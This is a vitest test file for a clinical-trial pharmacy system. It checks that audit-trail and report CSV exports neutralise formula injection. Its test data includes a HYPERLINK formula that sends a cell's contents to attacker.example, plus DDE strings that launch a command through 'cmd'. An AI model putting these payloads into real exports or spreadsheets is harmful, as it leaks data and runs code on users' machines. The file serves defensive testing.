import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoCore, type TestCore } from '../helpers/core';

/**
 * CSV formula injection (OWASP "CSV Injection"): a cell that starts with = + - @, a tab or a carriage return is run as
 * a formula by Excel or LibreOffice when the file is opened. Values planted through the real channels (a withdrawal
 * reason, a reason for dispensing out of window, lots of the sponsor's kit list) must come out of every CSV export as
 * text: prefixed with a single quote and quoted. Every cell of every export is checked, not only the planted ones.
 */
const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")';
const PLANTED = {
  withdrawal: `${HYPERLINK}\nsecond line`,
  setActive: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  outOfWindow: '-2+3+cmd|\' /C calc\'!A0',
  lots: ['@SUM(1+1)', '=1+2', '+A1', '-2+3'],
};
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestCore;
let pharmacist: string;

function parseCsv(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: false });
  return parsed.data;
}

/** Every cell that a spreadsheet would run as a formula. */
function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => FORMULA_START.test(cell));
}

async function call<T>(window: string, channel: string, input: unknown): Promise<T> {
  const result = await t.core.dispatch(window, channel, input);
  if (!result.ok) throw new Error(`${channel}: ${result.error.message}`);
  return result.value as T;
}

beforeAll(async () => {
  t = await demoCore({ history: true });
  pharmacist = await t.loginAs('unblinded_pharmacist', 'csv-pharmacist');
  const investigator = await t.loginAs('investigator', 'csv-investigator');
  const technician = await t.loginAs('pharmacy_technician', 'csv-technician');
  const admin = await t.loginAs('administrator', 'csv-admin');
  const signature = { username: t.userOf('unblinded_pharmacist').username, password: t.userOf('unblinded_pharmacist').password };

  // Reasons typed by users.
  // A patient still on study (the demo history withdraws one of its own), not the one dispensed to below.
  const patients = await call<Array<{ id: number; screeningNumber: string; status: string }>>(investigator, 'patients.list', {});
  const onStudy = patients.find((p) => p.status === 'randomized' && p.screeningNumber === 'S-002')!;
  await call(investigator, 'patients.withdraw', { patientId: onStudy.id, reason: PLANTED.withdrawal });
  await call(admin, 'users.setActive', { userId: 4, active: false, reason: PLANTED.setActive });
  await call(admin, 'users.setActive', { userId: 4, active: true, reason: 'Back from leave' });
  // S-005 missed W4 in the demo (its window closed two days ago): dispensed late, with a reason.
  const late = await call<{ id: number; visits: Array<{ code: string; dispensedAt: string | null; closes: string }> }>(pharmacist, 'patients.get', {
    patientId: patients.find((p) => p.screeningNumber === 'S-005')!.id,
  });
  const missed = late.visits.find((v) => v.dispensedAt === null)!;
  const plan = await call<{ suggestions: string[] }>(pharmacist, 'dispensing.plan', { patientId: late.id, visitCode: missed.code });
  await call(pharmacist, 'dispensing.confirm', {
    patientId: late.id,
    visitCode: missed.code,
    kits: plan.suggestions.map((kitNumber) => ({ kitNumber, source: 'scanner' })),
    outOfWindowReason: PLANTED.outOfWindow,
    signature,
  });

  // Lots from the sponsor's kit list, received into stock.
  const taken = new Set((await t.core.store.q().selectFrom('kits').select('kit_number').execute()).map((r) => r.kit_number));
  const kits: string[] = [];
  for (let n = 100_000; kits.length < PLANTED.lots.length; n += 7919) if (!taken.has(String(n))) kits.push(String(n));
  const rows = kits.map((kit, i) => [kit, i % 2 ? 'PLACEBO' : 'DUPI300', PLANTED.lots[i]!, '2027-06-30']);
  const content = 'kit_number,arm,lot,expiry_date\r\n' + rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n') + '\r\n';
  await call(pharmacist, 'allocation.importList', { kind: 'kits', fileName: 'extension.csv', contentBase64: Buffer.from(content, 'utf8').toString('base64'), signature });
  const shipment = await call<{ id: number }>(technician, 'shipments.create', { reference: 'CSV-SHP', from: { kind: 'kits', kitNumbers: kits } });
  for (const code of kits) await call(technician, 'shipments.scanKit', { shipmentId: shipment.id, code, source: 'scanner' });
  await call(technician, 'shipments.close', { shipmentId: shipment.id, temperature: 'no_alarm' });
}, 180_000);
afterAll(() => t.dispose());

describe('every CSV export defuses formulas', () => {
  it('the audit trail export: planted reasons come out as text, quoted, and no cell starts a formula', async () => {
    const monitor = await t.loginAs('monitor', 'csv-monitor');
    const { csv } = await call<{ csv: string }>(monitor, 'audit.exportCsv', {});
    const rows = parseCsv(csv);
    const cells = rows.flat();
    expect(cells).toContain(`'${PLANTED.withdrawal}`);
    expect(cells).toContain(`'${PLANTED.setActive}`);
    expect(cells).toContain(`'${PLANTED.outOfWindow}`);
    // Quoted in the file, so the quote prefix and the text stay one cell whatever the separator settings.
    expect(csv).toContain(`"'${PLANTED.setActive.replace(/"/g, '""')}"`);
    expect(formulaCells(rows)).toEqual([]);
  });

  it('the patient history report (blinded): a reason for dispensing out of window comes out as text', async () => {
    const monitor = await t.loginAs('monitor', 'csv-monitor-2');
    const file = await call<{ base64: string }>(monitor, 'reports.render', { report: 'patient_history', format: 'csv' });
    const rows = parseCsv(Buffer.from(file.base64, 'base64').toString('utf8'));
    expect(rows.flat()).toContain(`'${PLANTED.outOfWindow}`);
    expect(formulaCells(rows)).toEqual([]);
  });

  it.each([
    ['accountability', {}],
    ['expiring', { days: 730 }],
  ] as const)('the %s report (unblinded): lots of the sponsor list come out as text', async (report, options) => {
    const file = await call<{ base64: string }>(pharmacist, 'reports.renderUnblinded', { report, format: 'csv', ...options });
    const rows = parseCsv(Buffer.from(file.base64, 'base64').toString('utf8'));
    for (const lot of PLANTED.lots) expect(rows.flat(), lot).toContain(`'${lot}`);
    expect(formulaCells(rows)).toEqual([]);
  });

  it.each([
    ['render', 'accountability'],
    ['render', 'inventory'],
    ['render', 'expiring'],
    ['renderUnblinded', 'inventory'],
    ['renderUnblinded', 'patient_history'],
  ] as const)('reports.%s %s: no cell starts a formula, the site name on it neither', async (channel, report) => {
    // No channel sets the site name yet (it is set at installation): planted in the settings, it heads every report.
    await t.core.repositories.settings.setSite('=cmd|\' /C calc\'!A0 Pharmacy');
    await t.core.site.reload();
    try {
      const file = await call<{ base64: string }>(pharmacist, `reports.${channel}`, { report, format: 'csv', days: 730 });
      const rows = parseCsv(Buffer.from(file.base64, 'base64').toString('utf8'));
      expect(rows.flat()).toContain("'=cmd|' /C calc'!A0 Pharmacy");
      expect(formulaCells(rows)).toEqual([]);
    } finally {
      await t.core.repositories.settings.setSite('Hôpital Larrey pharmacy');
      await t.core.site.reload();
    }
  });
});
